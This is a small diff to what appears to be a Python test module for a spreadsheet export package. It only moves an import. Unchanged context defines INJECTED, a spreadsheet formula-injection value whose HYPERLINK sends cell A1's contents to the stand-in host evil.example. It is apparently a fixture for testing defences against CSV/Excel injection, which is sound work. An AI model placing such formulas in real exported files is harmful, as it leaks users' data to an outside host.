@@ -14,8 +14,8 @@ from openpyxl import load_workbook
 from bhxh_geo.actuals.current import stored_actuals
 from bhxh_geo.demo import DEMO_LABEL
 from bhxh_geo.paths import TARGETS_CSV
+from bhxh_geo.spreadsheets import DATA_SHEET, SOURCES_SHEET
 from bhxh_geo.table_export import table_bytes, table_frame
-from bhxh_geo.tabular import DATA_SHEET, SOURCES_SHEET
 from bhxh_geo.targets import load_targets, plan_source
 
 INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Báo cáo")'
